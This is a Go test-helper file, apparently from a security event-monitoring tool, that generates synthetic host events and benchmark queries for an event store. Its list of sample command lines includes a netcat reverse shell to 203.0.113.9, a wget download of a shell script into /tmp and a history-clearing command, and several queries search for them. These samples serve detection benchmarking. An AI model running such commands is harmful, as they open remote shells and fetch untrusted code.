package storetest

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/query"
	"github.com/vigil-sec/vigil/internal/store"
)

// FleetEvents returns n realistic events for benchmarks: 200 hosts, 40
// users, 85% exec events with varied command lines, the rest logins, file
// changes and connections, evenly spread over the days before end.
func FleetEvents(n int, end time.Time, days int, seed uint64) []event.Event {
	g := NewFleetGen(n, end, days, seed)
	evs := make([]event.Event, 0, n)
	for {
		e, ok := g.Next()
		if !ok {
			return evs
		}
		evs = append(evs, e)
	}
}

// FleetGen generates the events of FleetEvents one at a time, for loads
// too large to hold in memory.
type FleetGen struct {
	r     *rand.Rand
	start time.Time
	step  int64
	i, n  int
}

// NewFleetGen returns a generator of n events (see FleetEvents).
func NewFleetGen(n int, end time.Time, days int, seed uint64) *FleetGen {
	span := int64(days) * int64(24*time.Hour)
	return &FleetGen{r: rand.New(rand.NewPCG(seed, 7)), start: end.Add(-time.Duration(span)), step: span / int64(max(n, 1)), n: n}
}

// Next returns the next event, or false after the last.
func (g *FleetGen) Next() (event.Event, bool) {
	if g.i >= g.n {
		return event.Event{}, false
	}
	ts := g.start.Add(time.Duration(g.step * int64(g.i))).Add(time.Duration(g.r.IntN(1000)))
	e := fleetEvent(g.r, ts)
	e.Event.ID = event.DeterministicID(ts, e.Host.Name, strconv.Itoa(g.i))
	g.i++
	return e, true
}

// NextLive returns the next event stamped ts with the given event ID, as a
// live agent stamps what happens as it happens. It ignores the generator's
// count and spread over days, and leaves Next's sequence alone.
func (g *FleetGen) NextLive(ts time.Time, id string) event.Event {
	e := fleetEvent(g.r, ts)
	e.Event.ID = id
	return e
}

// The fleet's names, made once rather than formatted for every event
// (which, with an ID drawn and thrown away, was half of what generating an
// event cost).
var (
	fleetHosts = names(200, func(i int) string { return fmt.Sprintf("srv-%03d", i) })
	fleetUsers = names(40, func(i int) string { return fmt.Sprintf("user%02d", i) })
	fleetHomes = names(40, func(i int) string { return "/home/" + fleetUsers[i] })
	fleetUIDs  = names(40, func(i int) string { return strconv.Itoa(1000 + i) })
	fleetAgent = names(200, func(i int) string { return "agent-" + fleetHosts[i] })
)

func names(n int, f func(int) string) []string {
	s := make([]string, n)
	for i := range s {
		s[i] = f(i)
	}
	return s
}

var fleetCommands = [][]string{
	{"/usr/bin/ls", "-la"}, {"/usr/bin/cat", "/etc/os-release"}, {"/usr/bin/grep", "-R", "error", "/var/log/app"},
	{"/usr/bin/python3", "/opt/app/worker.py", "--queue", "default"}, {"/usr/bin/curl", "-fsS", "http://10.1.2.3:8080/health"},
	{"/usr/bin/systemctl", "status", "nginx"}, {"/usr/bin/bash", "-c", "history -c"}, {"/usr/bin/sudo", "-u", "postgres", "psql"},
	{"/usr/bin/tar", "czf", "/backup/db.tgz", "/var/lib/postgresql"}, {"/usr/sbin/iptables", "-L", "-n"},
	{"/usr/bin/find", "/tmp", "-mtime", "+7", "-delete"}, {"/usr/bin/git", "pull", "--ff-only"},
	{"/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"}, {"/usr/bin/wget", "-q", "http://198.51.100.7/x.sh", "-O", "/tmp/x.sh"},
}

// fleetEvent draws one event at ts, without an ID.
func fleetEvent(r *rand.Rand, ts time.Time) event.Event {
	h := r.IntN(200)
	hn := fleetHosts[h]
	e := event.Event{
		Timestamp: ts,
		Event:     event.Meta{Kind: event.KindEvent},
		Host:      &event.Host{ID: fleetAgent[h], Name: hn, OS: &event.OS{Family: "debian", Kernel: "6.1.0-18-amd64"}},
		Agent:     &event.Agent{ID: fleetAgent[h], Version: "0.1.0", Type: "vigil"},
	}
	u := r.IntN(40)
	user := fleetUsers[u]
	switch k := r.IntN(100); {
	case k < 85:
		c := fleetCommands[r.IntN(len(fleetCommands))]
		args := append([]string(nil), c...)
		args = append(args, "--run="+strconv.Itoa(r.IntN(100000)))
		name := args[0][len("/usr/bin/"):]
		e.Event.Category, e.Event.Type, e.Event.Action, e.Event.Dataset = []string{"process"}, []string{"start"}, "exec", "vigil.audit"
		e.Process = &event.Process{PID: new(int64(1000 + r.IntN(60000))), PPID: new(int64(1 + r.IntN(1000))), Name: name, Executable: args[0],
			Args: args, ArgsCount: new(int64(len(args))), CommandLine: strings.Join(args, " "), WorkingDirectory: fleetHomes[u],
			Parent: &event.ProcessRef{PID: new(int64(900)), Name: "bash", Executable: "/usr/bin/bash"}}
		e.User = &event.User{Name: user, ID: fleetUIDs[r.IntN(40)]}
		e.Auditd = &event.Auditd{Data: map[string]string{"syscall": "execve", "tty": "pts0", "ses": strconv.Itoa(r.IntN(500))}}
	case k < 93:
		e.Event.Category, e.Event.Type, e.Event.Action, e.Event.Dataset = []string{"authentication"}, []string{"start"}, "ssh_login", "vigil.login"
		ip := "10." + strconv.Itoa(r.IntN(4)) + "." + strconv.Itoa(r.IntN(256)) + "." + strconv.Itoa(r.IntN(256))
		if r.IntN(3) == 0 {
			e.Event.Outcome = "failure"
			e.Message = "Failed password for " + user + " from " + ip + " port 52144 ssh2"
		} else {
			e.Event.Outcome = "success"
			e.Message = "Accepted publickey for " + user + " from " + ip + " port 52144 ssh2"
		}
		e.Source = &event.Endpoint{IP: ip, Port: new(int64(52144))}
		e.User = &event.User{Name: user}
	case k < 97:
		e.Event.Category, e.Event.Type, e.Event.Action, e.Event.Dataset = []string{"file"}, []string{"change"}, "updated", "vigil.fim"
		e.File = &event.File{Path: []string{"/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/ssh/sshd_config", "/etc/crontab"}[r.IntN(5)]}
	default:
		e.Event.Category, e.Event.Type, e.Event.Action, e.Event.Dataset = []string{"network"}, []string{"connection"}, "connection_opened", "vigil.audit"
		e.Process = &event.Process{Name: "curl", Executable: "/usr/bin/curl", PID: new(int64(4242))}
		e.Destination = &event.Endpoint{IP: "203.0.113." + strconv.Itoa(r.IntN(256)), Port: new(int64(443))}
	}
	return e
}

// BenchQuery is one of the typical queries measured over a large store.
type BenchQuery struct {
	Name  string
	Kind  string // search, count, histogram, top
	Query string
	Field string        // for top
	Span  time.Duration // the time window ending at the store's end
}

// BenchQueries are 20 typical filtered searches and the 24 h aggregations.
var BenchQueries = []BenchQuery{
	{"host", "search", "host.name:srv-042", "", 24 * time.Hour},
	{"host-7d", "search", "host.name:srv-042", "", 7 * 24 * time.Hour},
	{"host-id", "search", "host.id:agent-srv-117 and event.action:exec", "", 24 * time.Hour},
	{"user", "search", "user.name:user07", "", 24 * time.Hour},
	{"user-not-exec", "search", "user.name:user07 and not event.action:exec", "", 24 * time.Hour},
	{"process", "search", "process.name:nc", "", 24 * time.Hour},
	{"process-7d", "search", "process.name:(nc or wget)", "", 7 * 24 * time.Hour},
	{"executable", "search", "process.executable:/usr/bin/sudo", "", 24 * time.Hour},
	{"cmd-substring", "search", "process.command_line:*203.0.113.9*", "", 24 * time.Hour},
	{"cmd-substring-7d", "search", "process.command_line:*/tmp/x.sh*", "", 7 * 24 * time.Hour},
	{"bare-word", "search", "psql", "", 24 * time.Hour},
	{"message-phrase", "search", `"Failed password for user13"`, "", 24 * time.Hour},
	{"category-1h", "search", "event.category:authentication", "", time.Hour},
	{"category-outcome", "search", "event.category:authentication and event.outcome:failure", "", 6 * time.Hour},
	{"file", "search", "event.category:file and file.path:/etc/shadow", "", 24 * time.Hour},
	{"dest-ip", "search", "destination.ip:203.0.113.77", "", 24 * time.Hour},
	{"args", "search", "process.args:/etc/os-release", "", time.Hour},
	{"rare-count", "count", "process.name:nc and user.name:user03", "", 24 * time.Hour},
	{"failures-count-24h", "count", "event.outcome:failure", "", 24 * time.Hour},
	{"host-and-user", "search", "host.name:srv-001 and user.name:user01", "", 7 * 24 * time.Hour},
	{"histogram-24h", "histogram", "", "", 24 * time.Hour},
	{"histogram-exec-24h", "histogram", "event.action:exec", "", 24 * time.Hour},
	{"top-users-24h", "top", "event.action:exec", "user.name", 24 * time.Hour},
	{"top-hosts-failures-24h", "top", "event.outcome:failure", "host.name", 24 * time.Hour},
	{"top-process-24h", "top", "", "process.name", 24 * time.Hour},
}

// RunBenchQuery runs q once against s with the window ending at end and
// returns how many hits, buckets or the count it produced.
func RunBenchQuery(ctx context.Context, s store.Store, q BenchQuery, end time.Time) (int64, error) {
	n, err := query.Parse(q.Query)
	if err != nil {
		return 0, err
	}
	from := end.Add(-q.Span)
	switch q.Kind {
	case "search":
		res, err := s.Search(ctx, store.Search{Query: n, From: from, To: end, Limit: 100})
		return int64(len(res.Events)), err
	case "count":
		return s.Count(ctx, n, from, end)
	case "histogram":
		b, err := s.Histogram(ctx, n, from, end, 10*time.Minute)
		return int64(len(b)), err
	case "top":
		b, err := s.Top(ctx, n, q.Field, from, end, 10)
		return int64(len(b)), err
	}
	return 0, fmt.Errorf("unknown bench query kind %q", q.Kind)
}
